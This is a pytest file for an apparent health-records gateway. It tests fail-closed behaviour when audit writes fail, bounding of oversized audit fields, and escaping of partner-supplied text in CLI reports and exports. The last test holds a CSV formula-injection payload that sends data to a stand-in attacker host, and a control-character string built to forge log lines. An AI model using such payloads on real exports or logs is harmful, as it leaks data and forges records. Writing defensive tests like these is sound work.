"""Issue 9, findings 5 and 7 (output half), against a real `xds-node serve` with signed SAML.

* A disclosure leaves only after its audit row is committed: with the audit table refusing
  writes (a BEFORE INSERT trigger raising "disk full", on SQLite and PostgreSQL), ITI-38, ITI-39
  and ITI-55 answer with a SOAP Receiver fault (HTTP 503, Retry-After) carrying no patient data,
  and the node logs an ERROR.
* Every audited field is bounded: a 9 MB wsa:MessageID and a long subject-id give a normal answer
  and a bounded row (truncation marker with the SHA-256 of the full value); so does a denied probe.
* What a partner wrote cannot forge a line in `xds-node audit --accounting` or the table, and
  cannot become a live formula in the CSV export; JSON stays exact.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from lxml import etree
from sqlalchemy import text

from tests.conftest import BACKENDS, ROOT, LiveNode, _database_url, free_port
from tests.responding.requester import Requester
from tests.responding.test_responding_gateway import (  # noqa: F401  (key_template is a fixture)
    _docs_of,
    _retrieve,
    find_documents,
    key_template,
    xcpd_request,
)
from tests.soapkit import Reply, _parse
from xds_node.audit.store import AuditLog
from xds_node.config import load_settings
from xds_node.db import make_test_engine
from xds_node.ebxml import vocabulary as v
from xds_node.soap.envelope import build_request

pytestmark = pytest.mark.server
SAMPLES = Path(__file__).resolve().parents[2] / "sample_documents"
HL7 = "{urn:hl7-org:v3}"

TRIGGER = {
    "sqlite": ["CREATE TRIGGER audit_disk_full BEFORE INSERT ON audit_event "
               "BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END"],
    "postgresql": [
        "CREATE OR REPLACE FUNCTION xds_test_disk_full() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
        "RAISE EXCEPTION 'could not extend file: No space left on device' USING ERRCODE = 'disk_full'; END $$",
        "CREATE TRIGGER audit_disk_full BEFORE INSERT ON audit_event FOR EACH ROW "
        "EXECUTE FUNCTION xds_test_disk_full()",
    ],
}
UNTRIGGER = {"sqlite": "DROP TRIGGER audit_disk_full", "postgresql": "DROP TRIGGER audit_disk_full ON audit_event"}


@dataclass
class Gateway:
    live: LiveNode
    url: str  # database URL the node uses
    data: Path
    engine: object
    requester: Requester
    patient: str  # has consented
    family: str
    documents: list[str]
    xcpd_body: etree._Element
    retrieve_body: etree._Element
    log: str = ""

    def audit(self) -> AuditLog:
        return AuditLog(self.engine)

    def drain_log(self) -> str:
        """What the node printed so far (its stdout is a pipe; read without blocking)."""
        fd = self.live.proc.stdout.fileno()
        os.set_blocking(fd, False)
        try:
            while chunk := os.read(fd, 65536):
                self.log += chunk.decode(errors="replace")
        except BlockingIOError:
            pass
        return self.log

    def post(self, path: str, action: str, body, *, header=True, message_id: str | None = None,
             mtom: bool = False, **claims) -> tuple[httpx.Response, Reply]:
        """One request as a partner sends it; ``message_id`` replaces the wsa:MessageID (not signed)."""
        headers = [self.requester.header(**claims)] if header else []
        payload, ct, mid = build_request(action, body, to=self.live.url + path, headers=headers, mtom=mtom)
        if not isinstance(payload, bytes):
            payload = b"".join(payload)
        if message_id is not None:
            payload = payload.replace(mid.encode(), message_id.encode(), 1)
        resp = httpx.post(self.live.url + path, content=payload, headers={"Content-Type": ct}, timeout=120)
        return resp, _parse(resp)

    def cli(self, *args: str) -> str:
        env = {**os.environ, "XDS_DATABASE_URL": self.url, "COLUMNS": "400"}
        done = subprocess.run([sys.executable, "-m", "xds_node.cli", *args, "--data-dir", str(self.data)],
                              cwd=ROOT, env=env, capture_output=True, timeout=120)
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        return done.stdout.decode("utf-8")


@pytest.fixture(scope="module", params=BACKENDS)
def gw(request, tmp_path_factory, key_template):  # noqa: F811
    from xds_node.node import Node

    data = tmp_path_factory.mktemp(f"failclosed-{request.param}")
    shutil.copytree(key_template, data, dirs_exist_ok=True)
    url = _database_url(request.param, data)
    settings = load_settings(env={}, data_dir=data, database_url=url)
    node = Node(settings)
    node.folder_indexer(SAMPLES).sync()
    patients = sorted({r.patient_id for r in node.registry_store.fetch(
        "doc", [row["entry_uuid"] for row in node.repository.rows_for_source(
            next(s for s in node.repository.sources if s.startswith("folder:")))])})
    pid = patients[0]
    node.consent_store.grant(pid, source="paper form")
    docs = _docs_of(node, pid)
    family = node.patients.get(pid).demographics.family
    xcpd, retrieve = xcpd_request(node, pid), _retrieve(docs[:2], node)
    node.close()
    # the optional ATNA syslog copy goes to an ARR that is down the whole time: answers must not care
    arr = f"tcp://127.0.0.1:{free_port()}"
    live = LiveNode(data, extra_env={"XDS_DATABASE_URL": url, "XDS_AUDIT_SYSLOG": arr})
    # the audit trail's own database (its own file beside the registry's on SQLite)
    engine = make_test_engine(settings.audit_db_url)
    yield Gateway(live, url, data, engine, Requester.demo_partner(data / "keys"), pid, family, docs, xcpd, retrieve)
    live.stop()
    engine.dispose()


def _ext(pid: str) -> bytes:
    return pid.split("^")[0].encode()


CALLS = {
    "ITI-38": ("/xca/query", v.Action.ITI38),
    "ITI-39": ("/xca/retrieve", v.Action.ITI39),
    "ITI-55": ("/xcpd", v.Action.ITI55),
}


def _body(gw: Gateway, tx: str):
    return {"ITI-38": find_documents(gw.patient), "ITI-39": gw.retrieve_body, "ITI-55": gw.xcpd_body}[tx]


def _disclosed(gw: Gateway, tx: str, reply: Reply) -> bool:
    """Did the answer carry the consenting patient's data?"""
    if tx == "ITI-38":
        return reply.status == v.ResponseStatus.SUCCESS and bool(reply.objects("ExtrinsicObject"))
    if tx == "ITI-39":
        return bool(reply.body is not None and reply.body.findall(f"{{{v.XDSB}}}DocumentResponse"))
    return reply.body is not None and reply.body.find(f".//{HL7}patientPerson") is not None


# --- the audit store cannot write ---------------------------------------------------------------
@pytest.mark.parametrize("tx", list(CALLS))
def test_no_audit_row_no_answer(gw, tx):
    path, action = CALLS[tx]
    dialect = gw.engine.dialect.name
    before = len(gw.audit().list(limit=100_000))
    with gw.engine.begin() as conn:
        for stmt in TRIGGER[dialect]:
            conn.execute(text(stmt))
    try:
        resp, reply = gw.post(path, action, _body(gw, tx), mtom=tx == "ITI-39")
    finally:
        with gw.engine.begin() as conn:
            conn.execute(text(UNTRIGGER[dialect]))
    assert resp.status_code == 503, resp.content[:600]
    assert resp.headers.get("retry-after") == "30"
    assert resp.headers["content-type"].startswith("application/soap+xml")
    assert reply.is_fault and reply.fault_code == "soap:Receiver"
    assert "temporarily unable to answer" in reply.fault_reason.lower()
    # nothing about the patient left: no id, no name, no document, no metadata
    assert _ext(gw.patient) not in resp.content and gw.family.encode() not in resp.content
    assert not any(d.encode() in resp.content for d in gw.documents)
    assert b"RegistryObjectList" not in resp.content and b"Include" not in resp.content
    assert b"Traceback" not in resp.content and b"disk" not in resp.content
    assert len(gw.audit().list(limit=100_000)) == before
    assert f"ERROR xds_node.audit: audit of {tx} could not be written" in gw.drain_log()

    # the same request (fresh assertion) is answered and audited once the store can write again
    resp, reply = gw.post(path, action, _body(gw, tx), mtom=tx == "ITI-39")
    assert resp.status_code == 200 and _disclosed(gw, tx, reply), resp.content[:600]
    [row] = gw.audit().list(transaction=tx, limit=1)
    assert row.outcome == "success" and row.partner == "demo-partner" and row.caller_kind == "partner"


# --- bounded fields -------------------------------------------------------------------------------
def _bounded(value: str, full: str) -> None:
    assert len(value) <= 1024 and len(value.encode()) <= 2048
    digest = hashlib.sha256(full.encode()).hexdigest()
    assert value.endswith(f"\u2026[truncated {len(full)} chars sha256={digest}]")
    assert full.startswith(value.partition("\u2026[truncated")[0])


def test_huge_message_id_and_subject_are_answered_and_audited_bounded(gw):
    huge = "urn:uuid:" + "7" * (9 * 1024 * 1024 - 9)
    subject = "Dr. " + "\u00e9" * 1500  # over 1,024 characters and over 2,048 UTF-8 bytes
    resp, reply = gw.post("/xca/query", v.Action.ITI38, find_documents(gw.patient), message_id=huge,
                          subject_id=subject)
    assert resp.status_code == 200 and reply.status == v.ResponseStatus.SUCCESS, resp.content[:300]
    [row] = gw.audit().list(transaction="ITI-38", patient_id=gw.patient, limit=1)
    assert row.outcome == "success" and row.document_ids
    _bounded(row.message_id, huge)
    _bounded(row.user_subject_id, subject)


def test_just_over_the_old_column_size_is_kept_whole(gw):
    mid = "urn:uuid:" + "a" * 300  # over String(256): lost the row on PostgreSQL before
    subject = "Dr. " + "b" * 320
    resp, reply = gw.post("/xcpd", v.Action.ITI55, gw.xcpd_body, message_id=mid, subject_id=subject)
    assert resp.status_code == 200 and _disclosed(gw, "ITI-55", reply)
    [row] = gw.audit().list(transaction="ITI-55", limit=1)
    assert (row.message_id, row.user_subject_id, row.patient_id) == (mid, subject, gw.patient)
    assert (row.partner, row.caller_kind) == ("demo-partner", "partner")


def test_an_unreachable_syslog_arr_does_not_hold_answers(gw):
    """The database row is the record of truth; the ATNA syslog copy is best effort (logged)."""
    resp, reply = gw.post("/xcpd", v.Action.ITI55, gw.xcpd_body)
    assert resp.status_code == 200 and _disclosed(gw, "ITI-55", reply)
    for _ in range(100):  # the sink's writer thread logs the failed delivery on its own time
        if "audit syslog delivery failed" in gw.drain_log():
            break
        time.sleep(0.1)
    assert "audit syslog delivery failed" in gw.log
    assert gw.audit().list(transaction="ITI-55", limit=1)[0].outcome == "success"


def test_denied_probe_with_huge_message_id_leaves_a_bounded_row(gw):
    huge = "urn:uuid:" + "d" * (9 * 1024 * 1024 - 9)
    resp, reply = gw.post("/xca/query", v.Action.ITI38, find_documents(gw.patient), header=False, message_id=huge)
    assert reply.is_fault and reply.fault_code == "soap:Sender" and resp.status_code == 400
    [row] = gw.audit().list(outcome="denied", limit=1)
    assert row.transaction == "ITI-38" and row.caller_kind == "anonymous" and row.partner == ""
    _bounded(row.message_id, huge)


# --- output safety ------------------------------------------------------------------------------
FORGED = "2026-01-01 00:00:00  Forged Hospital"
#: newline, CR, a C1 CSI (what ESC [ is in 8-bit terminals), NEL, a line separator, a bidi override
TRICKY = f"Dr. Mallory\n{FORGED}\r\x9b31mred\x85next\u2028sep\u202egnp.exe"


def test_control_characters_cannot_forge_report_lines(gw):
    resp, reply = gw.post("/xca/query", v.Action.ITI38, find_documents(gw.patient), subject_id=TRICKY)
    assert resp.status_code == 200 and reply.status == v.ResponseStatus.SUCCESS
    [row] = gw.audit().list(transaction="ITI-38", patient_id=gw.patient, limit=1)
    assert row.user_subject_id == TRICKY  # stored exactly; escaped only on the way out

    accounting = gw.cli("audit", "--accounting", gw.patient)
    lines = accounting.splitlines()  # splits on \n, \r, \x85, \u2028 ... too
    assert not any(line.startswith(FORGED[:10]) for line in lines)
    count = int(lines[-1].split()[0])
    assert len(lines) == 3 + count + 1  # title, header, rule, one line per disclosure, total
    assert "Dr. Mallory\\n2026-01-01" in accounting and "\\x9b31m" in accounting and "\\u202e" in accounting
    assert "demo-partner" in accounting
    assert not any(c in accounting for c in "\r\x9b\x85\u2028\u202e")

    listing = gw.cli("audit", "--transaction", "ITI-38", "--limit", "3")
    assert not any(c in listing for c in "\r\x9b\x85\u2028\u202e")
    assert not any(line.lstrip("│┃| ").startswith(FORGED[:10]) for line in listing.splitlines())
    assert "demo-partner (partner)" in listing


def test_csv_export_neutralises_formulas_and_json_stays_exact(gw):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for records")'
    resp, reply = gw.post("/xca/query", v.Action.ITI38, find_documents(gw.patient), subject_id=formula)
    assert resp.status_code == 200 and reply.status == v.ResponseStatus.SUCCESS
    rows = list(csv.DictReader(io.StringIO(gw.cli("audit", "--transaction", "ITI-38", "--format", "csv"))))
    mine = [r for r in rows if "HYPERLINK" in r["user_subject_id"]]
    assert mine and all(r["user_subject_id"] == "'" + formula for r in mine)
    assert all(not r[k].startswith(("=", "+", "-", "@")) for r in rows for k in r)
    assert mine[0]["partner"] == "demo-partner" and mine[0]["caller_kind"] == "partner"
    exported = json.loads(gw.cli("audit", "--transaction", "ITI-38", "--format", "json"))
    assert formula in [e["user_subject_id"] for e in exported]

